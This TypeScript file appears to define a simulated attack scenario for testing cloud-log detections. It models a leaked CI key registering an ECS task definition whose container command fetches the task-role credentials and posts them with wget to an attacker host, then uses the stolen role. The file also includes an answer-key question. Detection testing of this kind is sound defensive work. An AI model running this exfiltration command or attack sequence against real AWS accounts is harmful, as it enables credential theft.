/**
 * Playbook: steal an ECS task role's credentials (MITRE T1552.005, T1610).
 *
 * With a CI user's leaked key, the attacker reads an existing task definition, registers a
 * new revision whose container command fetches the task-role credentials from the ECS
 * credential endpoint (`169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI`) and posts
 * them out, and runs it on the cluster. The stolen role credentials are then used from the
 * attacker's host.
 *
 * Detection: Sigma b94bf91e (ECS Task Definition That Queries The Credential Endpoint) fires
 * on the RegisterTaskDefinition whose `containerDefinitions[].command` carries the variable.
 * RunTask names only the task definition, so it does not match. The stolen role session's
 * calls match the hunting rule 905d389b, like all role-session traffic.
 */
import { defineScenario, type CallOptions, type JsonObject, type Principal } from 'trailsim';
import { first } from './_kit.js';

const CLI = (command: string) => `aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-azure exe/x86_64.ubuntu.22 prompt/off command/${command}`;

export default defineScenario({
  name: 'attack-ecs-credential-theft',
  description: 'A leaked CI key registers a task definition that exfiltrates the ECS task-role credentials, runs it, and uses the stolen role from outside.',
  title: 'ECS task definition that steals its task-role credentials',
  attack: { techniques: ['T1552.005', 'T1610'], tactics: ['credential-access', 'execution'] },
  references: [
    'https://attack.mitre.org/techniques/T1552/005/',
    'https://docs.aws.amazon.com/AmazonECS/latest/developerguide/task-iam-roles.html',
  ],
  seed: 4119,
  start: '2026-03-27T06:00:00Z',
  targets: ['b94bf91e-c2bf-4047-9c43-c6810f43baad'],
  run({ sim, log, answer }) {
    const ATTACKER_IP = sim.attackerIp('attacker');
    const acct = sim.addAccount({ name: 'prod', alias: 'acme-prod', regions: ['us-east-1'] });
    sim.addTraffic({ rate: '120/h' });
    const ci = acct.iamUser('jenkins-deployer');
    const act = (who: Principal, op: string, command: string, params?: JsonObject, opts: CallOptions = {}) => sim.call(who, op, params, { sourceIPAddress: ATTACKER_IP, userAgent: CLI(command), ...opts });
    const subnet = first(acct, 'AWS::EC2::Subnet', 'subnet-0a1b2c3d4e5f60718', 'us-east-1');
    const sg = first(acct, 'AWS::EC2::SecurityGroup', 'sg-0a1b2c3d4e5f60718', 'us-east-1');
    log(`account ${acct.id}; attacker uses ${ci.arn} from ${ATTACKER_IP}`);

    sim.advanceTo('2026-03-27T11:15:00Z');
    act(ci, 'ecs:ListClusters', 'ecs.list-clusters');
    sim.advance('15s');
    act(ci, 'ecs:ListTaskDefinitions', 'ecs.list-task-definitions', { familyPrefix: 'billing-worker', status: 'ACTIVE' });
    sim.advance('10s');
    act(ci, 'ecs:DescribeTaskDefinition', 'ecs.describe-task-definition', { taskDefinition: 'billing-worker', include: ['TAGS'] });
    sim.advance('3m');
    const registered = act(ci, 'ecs:RegisterTaskDefinition', 'ecs.register-task-definition', {
      family: 'billing-worker',
      taskRoleArn: `arn:aws:iam::${acct.id}:role/billing-worker-task-role`,
      containerDefinitions: [{
        name: 'billing-worker',
        image: 'public.ecr.aws/docker/library/alpine:3.20',
        cpu: 256,
        memory: 512,
        essential: true,
        command: ['/bin/sh', '-c', `wget -qO- 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | wget -qO- --post-data="$(cat)" https://${sim.attackerIp('c2')}/c`],
      }],
    });
    const revision = (registered.responseElements?.taskDefinition as { revision?: number } | undefined)?.revision ?? 1;
    sim.advance('40s');
    act(ci, 'ecs:RunTask', 'ecs.run-task', { cluster: 'prod', taskDefinition: `billing-worker:${revision}`, count: 1, launchType: 'FARGATE', networkConfiguration: { awsvpcConfiguration: { subnets: [subnet], securityGroups: [sg], assignPublicIp: 'ENABLED' } } });

    sim.advance('9m');
    const stolen = acct.role('billing-worker-task-role').session({ sessionName: 'a3f9c2d17b5e4e0f8c6d2b1a0e9f8d7c', createdAt: sim.now - 8 * 60_000 });
    act(stolen, 'sts:GetCallerIdentity', 'sts.get-caller-identity');
    sim.advance('30s');
    act(stolen, 's3:ListBuckets', 's3.ls');
    sim.advance('20s');
    act(stolen, 'dynamodb:ListTables', 'dynamodb.list-tables');

    sim.advanceTo('2026-03-27T15:00:00Z');
    answer(
      'What did the attacker do with ECS, and with what it stole?',
      sim.records().filter((r) => r.sourceIPAddress === ATTACKER_IP).map((r) => `${r.eventTime} ${r.userIdentity?.arn} ${r.eventName}`),
    );
  },
});
